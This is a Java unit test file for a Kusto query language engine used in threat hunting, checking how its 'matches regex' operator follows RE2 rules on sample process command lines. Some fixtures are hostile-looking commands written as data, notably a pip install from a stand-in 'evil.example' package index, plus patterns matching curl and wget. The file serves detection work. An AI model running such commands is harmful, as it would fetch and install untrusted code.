package dev.hookline.kql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.kql.eval.Kql;
import dev.hookline.schema.Event;
import org.junit.jupiter.api.Test;

/** `matches regex`: Kusto's operator (case-sensitive RE2, found anywhere), refusing what RE2 cannot express. */
class MatchesRegexFollowsKustoTest {
    private static boolean cmd(String regex, String commandLine) {
        return Q.test("ProcessCommandLine matches regex " + regex, Q.proc("ProcessCommandLine", commandLine));
    }

    private static KqlException fails(String q) {
        return assertThrows(KqlException.class, () -> Kql.compile(q));
    }

    @Test
    void findsThePatternAnywhereAndIsCaseSensitive() {
        assertTrue(cmd("@\"--registry[= ]+https?://\"", "npm install --registry http://10.0.0.5:4873 x"));
        assertTrue(cmd("\"K.*S\"", "ARKANSAS")); // the docs' example: not anchored
        assertFalse(cmd("\"K.*S\"", "arkansas"));
        assertTrue(cmd("@\"(?i)K.*S\"", "arkansas"));
        assertTrue(cmd("@\"^curl\\s\"", "curl -sSL x"));
        assertFalse(cmd("@\"^curl\\s\"", "/usr/bin/curl -sSL x"));
    }

    @Test
    void dollarMatchesOnlyAtTheVeryEndAsInRe2() {
        // java.util.regex's $ would also match before a final newline; RE2's (and so Kusto's) does not
        assertFalse(cmd("@\"jsextension$\"", "./jsextension\n"));
        assertTrue(cmd("@\"jsextension$\"", "./jsextension"));
        assertTrue(cmd("@\"(?m)jsextension$\"", "./jsextension\nnext"));
    }

    @Test
    void posixClassesMeanWhatRe2SaysNotALiteralSet() {
        assertTrue(cmd("@\"^[[:digit:]]+$\"", "12345"));
        assertFalse(cmd("@\"^[[:digit:]]+$\"", "digit"));
        assertTrue(cmd("@\"[[:^space:]]\"", " x "));
    }

    @Test
    void aMissingColumnIsTheEmptyString() {
        Event e = Ev.proc(Ev.NOW).s("FileName", "x").build();
        assertTrue(Q.test("ProcessCommandLine matches regex @\"^$\"", e));
        assertFalse(Q.test("ProcessCommandLine matches regex \"a\"", e));
        assertTrue(Q.test("not(ProcessCommandLine matches regex \"a\")", e));
    }

    @Test
    void constructsRe2LacksAreCompileErrorsWithLineAndColumn() {
        String[] refused = {"@\"(a)\\1\"", "@\"curl(?=\\s)\"", "@\"(?<!x)y\"", "@\"(?>a)\"", "@\"a*+\"", "@\"\\Gx\"",
            "@\"(?x) a\"", "@\"a{1001}\""};
        for (String r : refused) {
            KqlException e = fails("DeviceProcessEvents\n| where ProcessCommandLine matches regex " + r);
            assertEquals(2, e.line(), r);
            assertEquals(42, e.column(), r + ": " + e.getMessage());
            assertTrue(e.getMessage().contains("bad regular expression"), e.getMessage());
        }
        assertTrue(fails("DeviceProcessEvents | where ProcessCommandLine matches regex @\"(a)\\1\"").getMessage()
                .contains("backreference"));
        assertTrue(fails("DeviceProcessEvents | where ProcessCommandLine matches regex @\"x(?=y)\"").getMessage()
                .contains("lookaround"));
        assertTrue(fails("DeviceProcessEvents | where ProcessCommandLine matches regex @\"(\"").getMessage()
                .contains("invalid regular expression"));
    }

    @Test
    void classSyntaxJavaReadsDifferentlyKeepsItsRe2Meaning() {
        assertTrue(cmd("@\"^[[]x\"", "[x"), "[ inside a class is a literal in RE2");
        assertTrue(cmd("@\"^[a&&b]+$\"", "a&b"), "&& inside a class is two literal ampersands in RE2");
        assertFalse(cmd("@\"^[a&&b]+$\"", "c"));
        assertTrue(cmd("@\"a\\vb\"", "a\u000Bb"));
        assertFalse(cmd("@\"a\\vb\"", "a\nb"), "RE2's \\v is only the vertical tab");
        assertTrue(cmd("@\"(?i)É\"", "café"), "(?i) folds Unicode case as RE2 does");
    }

    @Test
    void re2NamedGroupsAndFlagsAreAccepted() {
        assertTrue(cmd("@\"(?P<tool>curl|wget) \"", "wget http://x"));
        assertTrue(cmd("@\"(?i:CURL)\"", "curl"));
        assertTrue(cmd("@\"(?s)a.b\"", "a\nb"));
        assertFalse(cmd("@\"a.b\"", "a\nb"));
    }

    @Test
    void moreThanSixteenGroupsIsKustosLimit() {
        String seventeen = "@\"" + "(a)".repeat(17) + "\"";
        assertTrue(fails("DeviceProcessEvents | where ProcessCommandLine matches regex " + seventeen).getMessage()
                .contains("16 groups"));
        cmd("@\"" + "(a)".repeat(16) + "\"", "a");
    }

    @Test
    void thePatternMustBeAConstantAndRegexMustFollowMatches() {
        assertTrue(fails("DeviceProcessEvents | where ProcessCommandLine matches regex FileName").getMessage()
                .contains("constant string pattern"));
        KqlException e = fails("DeviceProcessEvents | where ProcessCommandLine matches \"x\"");
        assertTrue(e.getMessage().contains("expected 'regex' after 'matches'"), e.getMessage());
        assertEquals(56, e.column());
    }

    @Test
    void catastrophicBacktrackingIsAbandonedCountedAndFalse() {
        long before = Kql.regexMatchesAbandoned();
        String hostile = "a".repeat(30) + "!";
        // RE2 answers false in linear time; java.util.regex needs about 20 s for this one
        assertFalse(cmd("@\"(.*a){12}$\"", hostile));
        assertEquals(before + 1, Kql.regexMatchesAbandoned());
        assertTrue(cmd("@\"(.*a){12}$\"", "a".repeat(12)));
    }

    @Test
    void worksInHuntingAndStreamingAlike() {
        Event hit = Q.proc("ProcessCommandLine", "pip install -i https://evil.example/simple x");
        Event miss = Q.proc("ProcessCommandLine", "pip install x");
        String q = "DeviceProcessEvents | where ProcessCommandLine matches regex @\"\\s-i\\s+https?://\"";
        assertEquals(1, Q.run(q, hit, miss).rows().size());
        int[] n = {0};
        StreamingQuery s = Kql.compile(q).streaming();
        s.accept(hit, Ev.NOW, (a, ev, row) -> n[0]++);
        s.accept(miss, Ev.NOW, (a, ev, row) -> n[0]++);
        assertEquals(1, n[0]);
    }
}
